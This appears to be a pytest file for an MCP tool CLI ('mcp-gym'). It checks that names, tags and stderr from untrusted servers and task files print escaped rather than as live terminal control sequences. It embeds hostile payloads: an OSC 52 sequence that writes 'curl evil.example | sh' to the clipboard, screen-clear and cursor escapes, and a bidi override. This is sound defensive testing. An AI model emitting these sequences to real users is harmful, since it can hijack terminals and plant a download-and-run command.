"""Untrusted text printed to the user's terminal (``mcp_gym._terminal``): a task file's tags in ``mcp-gym eval``'s
summary, a third-party server's names and descriptions in ``mcp-gym inspect``. Rich
markup in them must stay text (``[/]`` once ended the eval with a traceback after every episode ran) and terminal
escape sequences must arrive escaped (rich passes ESC through: an OSC 52 sequence sets the clipboard in terminals
that allow it, ``ESC[2J`` clears the screen, cursor moves rewrite the lines above)."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from mcp_gym.cli import main

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: 'curl evil.example | sh' to the clipboard
CLEAR = "\x1b[2J\x1b[H"
BIDI = "\u202e"  # right-to-left override


def _no_escape_reached(text: str) -> None:
    assert "\x1b" not in text and BIDI not in text, repr(text[:400])


def test_a_task_file_s_tags_are_plain_text_in_the_eval_summary(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "250")  # one line per row: the tags are read back whole
    tasks = tmp_path / "tasks.jsonl"
    tags = ["[/]", "[link=https://evil.example]docs[/link]", f"clip{CLIPBOARD}board", f"cls{CLEAR}", f"rtl{BIDI}x"]
    tasks.write_text(json.dumps({"id": "t1", "prompt": "Say hi", "answer": "hi", "tags": tags}) + "\n")
    server = f'+env.servers.c="{sys.executable} -m mcp_gym.servers.counter"'
    code = main(["eval", "env=custom", server, f"env.tasks={tasks}", "policy=oracle", "samples=1",
                 f"out={tmp_path / 'out'}", "launcher.progress=false", "plots=false"])
    out = capsys.readouterr().out
    assert code == 0, out[-2000:]
    _no_escape_reached(out)
    assert "tag [/]" in out and "[link=https://evil.example]docs[/link]" in out  # shown as written, not obeyed
    assert "\\x1b]52;c;" in out and "\\u202e" in out


HOSTILE_SERVER = '''
import sys
from mcp.server.mcpserver import MCPServer

server = MCPServer("evil[/]" + "\\x1b[2J", version="1[/bold]")

@server.tool(name="read[/]file", description="Reads a file.\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07[link=https://evil.example]x[/link]")
def read(path: str) -> str:
    return path

server.run()
'''


def test_inspect_shows_a_hostile_server_s_names_as_plain_text(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "250")
    script = tmp_path / "evil_server.py"
    script.write_text(HOSTILE_SERVER)
    code = main(["inspect", f"{sys.executable} {script}", "--timeout", "30"])
    out = capsys.readouterr().out
    assert code == 0, out[-2000:]
    _no_escape_reached(out)
    assert "evil[/]\\x1b[2J" in out and "read[/]file" in out and "\\x1b]52;c;" in out


def test_mcpmark_import_prints_a_checkout_s_names_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A category folder named with an escape sequence (git stores any byte but ``/`` and NUL in a name)."""
    checkout = tmp_path / "mcpmark"
    for category in (f"notes{CLEAR}", f"clip{CLIPBOARD.replace('/', '_')}"):
        folder = checkout / "tasks" / "filesystem" / category / "shout"
        folder.mkdir(parents=True)
        (folder / "description.md").write_text("Shout.\n")
        (folder / "verify.py").write_text("import sys\n")
    (checkout / "test_environments" / f"notes{CLEAR}").mkdir(parents=True)  # the other one is skipped
    code = main(["tasks", "import", "mcpmark", str(checkout), "--out", str(tmp_path / "bench")])
    captured = capsys.readouterr()
    assert code == 0
    _no_escape_reached(captured.out + captured.err)
    assert "skipped tasks/filesystem/clip\\x1b]52;c;" in captured.out and "notes\\x1b[2J\\x1b[H 1" in captured.out


def test_diff_tools_shows_a_server_s_schema_property_names_escaped(capsys: pytest.CaptureFixture[str],
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """Two real stdio servers whose ``echo`` tool differs by required arguments named with an OSC 52 sequence, a
    screen clear, an 8-bit CSI (U+009B) and a right-to-left override: the plain, rich and ``--json`` outputs of
    ``mcp-gym diff-tools`` all show the names escaped (``--json`` as JSON escapes, so the JSON reads back the same).
    Before, ``--json`` printed the override and the 8-bit CSI as they are."""
    import shlex

    from mcp_gym.drift import diff_tools, print_diff

    monkeypatch.setenv("COLUMNS", "250")
    names = [f"clip{CLIPBOARD}", f"cls{CLEAR}", "csi\x9b2J", f"rtl{BIDI}x"]
    echo = {"name": "echo", "description": "Echo text.",
            "inputSchema": {"type": "object", "properties": {"text": {"type": "string"}}}}
    hostile = {**echo, "inputSchema": {"type": "object", "required": names, "properties": {
        "text": {"type": "string"}, **{n: {"type": "string"} for n in names}}}}
    server = Path(__file__).parent / "servers" / "bad_server.py"
    a, b = (f"{shlex.quote(sys.executable)} {shlex.quote(str(server))} --tools {shlex.quote(json.dumps([t]))}"
            for t in (echo, hostile))
    assert "\x1b" not in a + b  # the command lines carry the names as JSON escapes; only the server's list has them
    assert main(["diff-tools", a, b]) == 1
    plain_out = capsys.readouterr().out
    assert main(["diff-tools", a, b, "--json"]) == 1
    json_out = capsys.readouterr().out
    print_diff(diff_tools(a, b), rich=True)
    rich_out = capsys.readouterr().out
    for out in (plain_out, json_out, rich_out):
        _no_escape_reached(out)
        assert "\x9b" not in out, repr(out[:400])
    assert "argument 'clip\\x1b]52;c;" in plain_out and "csi\\x9b2J" in plain_out and "rtl\\u202ex" in plain_out
    assert "cls\\x1b[2J" in rich_out and "rtl\\u202ex" in rich_out
    changes = json.loads(json_out)["changes"]
    assert {c["detail"] for c in changes} >= {f"argument '{n}' added (required)" for n in names}


DYING_SERVER = r"""
import sys
sys.stderr.write("boom \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b[2J\x1b[H \u202e \x9b2J\n")
sys.exit(3)
"""


def test_a_dying_server_s_stderr_is_escaped_in_the_job_s_log_and_error_lines(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A server that writes escape sequences to its stderr and exits: the tail of its stderr is quoted in the warning
    the job logs (a logging handler) and in the one-line error ``mcp-gym eval`` ends with (a ``print``); both show
    it escaped. Before, both wrote the sequences to the terminal as they are."""
    script = tmp_path / "dying_server.py"
    script.write_text(DYING_SERVER)
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(json.dumps({"id": "t1", "prompt": "Say hi", "answer": "hi"}) + "\n")
    code = main(["eval", "env=custom", f'+env.servers.c="{sys.executable} {script}"', f"env.tasks={tasks}",
                 "policy=oracle", "samples=1", f"out={tmp_path / 'out'}", "launcher.progress=false", "plots=false"])
    captured = capsys.readouterr()
    assert code == 1, captured.err[-2000:]
    _no_escape_reached(captured.out + captured.err)
    assert "\x9b" not in captured.out + captured.err
    lines = [line for line in captured.err.splitlines() if "server stderr: boom \\x1b]52;c;" in line]
    assert len(lines) == 2 and lines[1].startswith("mcp-gym eval: "), captured.err  # the log line, the error line
    assert all("\\x1b[2J" in line and "\\u202e" in line and "\\x9b2J" in line for line in lines)
